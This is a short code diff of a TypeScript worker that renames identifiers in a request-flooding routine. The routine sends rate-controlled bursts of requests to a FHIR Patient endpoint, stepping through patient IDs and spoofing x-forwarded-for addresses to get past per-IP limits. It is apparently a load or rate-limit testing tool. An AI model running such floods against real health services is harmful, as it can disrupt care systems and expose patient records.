@@ -12,7 +12,7 @@ export interface Attack {
   /** Precedes the file in a body. */
   validation?: object
 }
-export interface Told {
+export interface AttackReport {
   /** Number of responses by status; 'cut' if the connection ended without one. */
   answers: Record<string, number>
 }
@@ -103,7 +103,7 @@ const flood = ({ url, count: perSecond }: Attack): void => {
   setInterval(() => {
     for (let at = 0; at < perSecond / 20; at++) {
       n++
-      const asked = request(
+      const sent = request(
         `${url}/fhir/r4/Patient?_id=${n}`,
         { agent, headers: { 'x-forwarded-for': `192.0.2.${n % 200}` } },
         (response) => {
@@ -111,13 +111,13 @@ const flood = ({ url, count: perSecond }: Attack): void => {
           response.resume()
         },
       )
-      asked.on('error', () => count('cut'))
-      asked.end()
+      sent.on('error', () => count('cut'))
+      sent.end()
     }
   }, 50)
 }
 
 const attack = workerData as Attack
-parentPort?.on('message', () => parentPort?.postMessage({ answers } satisfies Told))
+parentPort?.on('message', () => parentPort?.postMessage({ answers } satisfies AttackReport))
 if (attack.kind === 'anonymous FHIR') flood(attack)
 else for (let n = 0; n < attack.count; n++) void repeat(attack, n)
